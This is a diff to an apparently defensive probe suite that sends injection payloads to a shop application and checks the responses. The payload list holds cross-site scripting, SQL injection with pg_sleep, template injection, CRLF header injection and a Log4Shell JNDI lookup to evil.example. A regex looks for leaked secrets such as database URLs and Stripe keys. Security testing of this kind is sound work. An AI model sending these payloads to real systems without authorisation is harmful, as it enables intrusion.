@@ -6,7 +6,7 @@ const HOSTILE = [
   `<script>${MARK}</script>`,
   `"><img src=x onerror=${MARK}>`,
   `'${MARK}--`,
-  `' or 1=1; select pg_sleep(3) --${MARK}`,
+  `' or 1=1; select pg_sleep(8) --${MARK}`,
   `{{7*7}}${MARK}`,
   `\${jndi:ldap://evil.example/${MARK}}`,
   `${MARK}\r\nset-cookie: ${MARK}=1`,
@@ -26,7 +26,7 @@ const BODIES = [
 ];
 /** A card number for tests: wherever it arrives it must be refused. */
 const CANARY = '4242 4242 4242 4242';
-const SECRETS = /postgres:\/\/|\bat [\w.]+ \(|node_modules|\bselect .* from \b|sk_(?:test|live)_|whsec_/i;
+const SECRETS = /postgres:\/\/|\n\s+at \S+ \(.*:\d+:\d+\)|syntax error at or near|sk_(?:test|live)_|whsec_/i;
 
 export const sentProbes = [
   probe({
@@ -42,10 +42,15 @@ export const sentProbes = [
           if (status >= 500) found(`${what} makes the shop fail (${status})`);
           if (/html/.test(String(headers['content-type'])) && body.includes(`<script>${MARK}`))
             found(`${what} runs as a script`);
-          if (body.includes(`onerror=${MARK}>`) && body.includes('"><img')) found(`${what} becomes a part of the page`);
+          if (
+            /html/.test(String(headers['content-type'])) &&
+            body.includes(`onerror=${MARK}>`) &&
+            body.includes('"><img')
+          )
+            found(`${what} becomes a part of the page`);
           if (headers['set-cookie']?.some(line => line.startsWith(MARK))) found(`${what} sets a cookie`);
           if (SECRETS.test(body)) found(`${what} tells what is inside`);
-          if (performance.now() - began > 2_900) found(`${what} keeps the shop waiting`);
+          if (text.includes('pg_sleep') && performance.now() - began > 7_900) found(`${what} keeps the shop waiting`);
         }
     },
   }),
